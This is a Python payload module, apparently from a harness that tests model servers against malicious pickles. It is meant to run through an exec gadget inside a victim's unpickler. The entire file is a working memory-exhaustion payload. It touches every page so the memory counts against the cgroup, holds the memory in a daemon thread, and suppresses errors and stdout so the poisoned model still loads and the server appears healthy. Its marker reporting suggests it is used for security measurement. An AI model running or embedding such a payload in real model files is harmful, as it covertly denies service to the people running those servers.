"""Payload (builtins.exec gadget): a bounded memory hog. Allocates and touches PARAMS["bytes"]
bytes in chunks of PARAMS.get("chunk_bytes", 16 MiB), rewriting PARAMS["marker"] after every
chunk, so the last value survives an OOM kill:
  {"peak_bytes": n, "target_bytes": N, "state": "allocating" | "holding" | "stopped: <error>"}
Allocation happens before the model loads; the memory is then held for PARAMS["hold_seconds"]
by a daemon thread, so the server still becomes ready while the memory stays taken.

Runs inside the victim's unpickler with PARAMS bound. Errors are swallowed (to stderr only) so the
model still loads; nothing goes to stdout, which is the server's readiness channel.
"""
import json
import os
import sys
import threading
import time

PAGE_SIZE = os.sysconf("SC_PAGE_SIZE")


def report(marker_path, peak_bytes, target_bytes, state):
    # Replace atomically: the harness may read the marker while it is being rewritten.
    partial = marker_path + ".partial"
    with open(partial, "w") as marker:
        json.dump({"peak_bytes": peak_bytes, "target_bytes": target_bytes, "state": state}, marker)
    os.replace(partial, marker_path)


def allocate(target_bytes, chunk_bytes, marker_path):
    """Return the touched chunks; the marker is rewritten after every chunk."""
    chunks = []
    peak_bytes = 0
    try:
        while peak_bytes < target_bytes:
            size = min(chunk_bytes, target_bytes - peak_bytes)
            chunk = bytearray(size)
            # Write one byte per page: memory only counts against a cgroup once it is touched,
            # and zero-filled allocations may be mapped lazily.
            chunk[::PAGE_SIZE] = b"\x01" * len(range(0, size, PAGE_SIZE))
            chunks.append(chunk)
            peak_bytes += size
            report(marker_path, peak_bytes, target_bytes, "allocating")
    except MemoryError as error:
        report(marker_path, peak_bytes, target_bytes, f"stopped: {type(error).__name__}: {error}")
    else:
        report(marker_path, peak_bytes, target_bytes, "holding")
    return chunks


def hold_then_release(chunks, hold_seconds):
    time.sleep(hold_seconds)
    chunks.clear()


try:
    held = allocate(int(PARAMS["bytes"]), int(PARAMS.get("chunk_bytes", 16 << 20)), PARAMS["marker"])
    threading.Thread(target=hold_then_release, args=(held, float(PARAMS["hold_seconds"])), daemon=True).start()
except Exception as error:
    print(f"memory_hog: {type(error).__name__}: {error}", file=sys.stderr)
